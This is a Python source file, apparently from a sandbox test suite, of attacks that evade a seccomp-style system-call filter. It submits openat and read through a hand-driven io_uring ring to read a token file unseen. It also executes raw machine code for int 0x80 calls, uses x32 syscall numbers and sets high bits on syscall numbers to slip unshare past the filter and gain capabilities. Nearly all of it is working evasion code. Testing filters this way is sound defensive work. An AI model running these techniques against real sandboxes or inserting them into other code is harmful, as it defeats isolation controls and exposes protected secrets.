"""Ways around the filter: rings, and the processor's other two sets of system calls (S14)."""

import ctypes
import errno
import mmap
import os
import struct

from hostile import Refused, attack, attempt, code, in_child, main, syscall, token_in

OP_OPENAT, OP_READ = 18, 22
AT_FDCWD = -100


class Ring:
    """As much of io_uring as opens and reads a file, one entry at a time."""

    def __init__(self):
        parameters = (ctypes.c_uint32 * 30)()
        with attempt("io_uring_setup"):
            self.fd = syscall(425, 4, parameters)
        self.sq_tail, self.sq_mask, self.sq_array = parameters[11], parameters[12], parameters[16]
        self.cq_head, self.cq_mask, self.cqes = parameters[20], parameters[22], parameters[25]
        self.submissions = mmap.mmap(self.fd, 4096, mmap.MAP_SHARED, offset=0)
        self.completions = mmap.mmap(self.fd, 4096, mmap.MAP_SHARED, offset=0x8000000)
        self.entries = mmap.mmap(self.fd, 4096, mmap.MAP_SHARED, offset=0x10000000)
        self.count = 0

    def run(self, opcode, descriptor, address, length, flags=0):
        entry = struct.pack("<BBHiQQII", opcode, 0, 0, descriptor, 0, address, length, flags)
        self.entries[: len(entry)] = entry
        mask = struct.unpack_from("<I", self.submissions, self.sq_mask)[0]
        struct.pack_into("<I", self.submissions, self.sq_array + 4 * (self.count & mask), 0)
        struct.pack_into("<I", self.submissions, self.sq_tail, self.count + 1)
        syscall(426, self.fd, 1, 1, 1, 0, 0)
        mask = struct.unpack_from("<I", self.completions, self.cq_mask)[0]
        at = self.cqes + 16 * (self.count & mask)
        result = struct.unpack_from("<Qi", self.completions, at)[1]
        self.count += 1
        struct.pack_into("<I", self.completions, self.cq_head, self.count)
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return result


@attack
def io_uring():
    """Opens and reads a file without a call that a filter of openat and read would see."""
    ring = Ring()
    path = ctypes.create_string_buffer(code("token").encode())
    buffer = ctypes.create_string_buffer(256)
    file = ring.run(OP_OPENAT, AT_FDCWD, ctypes.addressof(path), 0)
    ring.run(OP_READ, file, ctypes.addressof(buffer), 255)
    return token_in(buffer.value)


@attack
def linux_aio():
    """The older asynchronous interface."""
    context = ctypes.c_ulong()
    with attempt("io_setup"):
        syscall(206, 8, ctypes.byref(context))
    return "context" if context.value else "no context"


def machine_code(text):
    """A function of these bytes, for the processor to run."""
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(text)
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page))), page


def int80(number, first=0):
    """mov ebx, first; mov eax, number; int 0x80 (rbx saved around it)."""
    body = b"\x53\xbb" + struct.pack("<I", first) + b"\xb8" + struct.pack("<I", number) + b"\xcd\x80\x5b\xc3"
    function, page = machine_code(body)
    result = function()
    del page
    if -4096 < result < 0:
        raise OSError(-result, errno.errorcode.get(-result, "?"))
    return result


@attack
def i386_getpid():
    with attempt("int 0x80"):
        pid = int80(20)
    return "own-pid" if pid == os.getpid() else f"other-{pid}"


@attack
def i386_unshare():
    """i386 numbers differ: 310 is unshare there, and something harmless here."""

    def enter():
        with attempt("int 0x80"):
            int80(310, 0x10000000)
        return capabilities()

    return in_child(enter)


def capabilities():
    status = open("/proc/self/status").read()
    effective = int(status.split("CapEff:")[1].split()[0], 16)
    if not effective:
        raise Refused("no capability was gained")
    return "capabilities"


@attack
def x32_getpid():
    with attempt("x32"):
        pid = syscall(0x40000000 | 39)
    return "own-pid" if pid == os.getpid() else f"other-{pid}"


@attack
def x32_unshare():
    def enter():
        with attempt("x32"):
            syscall(0x40000000 | 272, 0x10000000)
        return capabilities()

    return in_child(enter)


@attack
def high_bits():
    """A filter that compares 64 bits takes a number with high bits for another; the kernel looks at 32 of them."""

    def enter():
        with attempt("unshare"):
            syscall(272 | 1 << 32, 0x10000000)
        return capabilities()

    return in_child(enter)


main()
